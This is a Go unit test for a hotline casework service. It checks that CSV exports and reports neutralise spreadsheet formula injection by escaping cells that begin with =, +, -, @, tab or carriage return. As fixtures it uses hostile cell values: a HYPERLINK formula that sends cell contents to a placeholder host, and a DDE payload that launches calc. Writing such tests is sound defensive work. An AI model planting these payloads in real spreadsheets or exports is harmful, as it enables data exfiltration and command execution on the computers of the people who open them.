package casework_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/numerovert/hotline/casework"
)

// Any channel may hand over odd codes; no CSV cell the hotline writes may
// start a spreadsheet formula (OWASP CSV injection).
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	f := fixtureMem(t)
	in := f.intake("k1:x", "exclusion", `=HYPERLINK("http://x.example/?"&A1,"open")`, "@SUM(A1:A9)", "+cmd|' /C calc'!A0")
	in.Detail = `=HYPERLINK("http://x.example/?"&A1,"open")`
	in.Channel = "-2+3"
	r := f.submit(t, in)
	var out bytes.Buffer
	if err := f.svc.ExportCases(context.Background(), casework.Actor{ID: "s", Team: r.Case.Team}, &out); err != nil {
		t.Fatal(err)
	}
	rep, err := f.svc.Report(context.Background(), casework.ReportOptions{Weeks: 2})
	if err != nil {
		t.Fatal(err)
	}
	for _, hxl := range []bool{false, true} {
		if err := rep.WriteCSV(&out, hxl); err != nil {
			t.Fatal(err)
		}
	}
	cr := csv.NewReader(&out)
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	formulas := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "calc") {
				formulas++
			}
		}
	}
	if formulas == 0 {
		t.Error("the test wrote no hostile cell at all")
	}
	for _, cell := range []string{"\tx", "\rx", "=1", "+1", "-1", "@x"} {
		if got := casework.SafeCell(cell); got != "'"+cell {
			t.Errorf("SafeCell(%q) = %q", cell, got)
		}
	}
	if got := casework.SafeCell("ML0501"); got != "ML0501" {
		t.Errorf("SafeCell changed a plain cell: %q", got)
	}
}
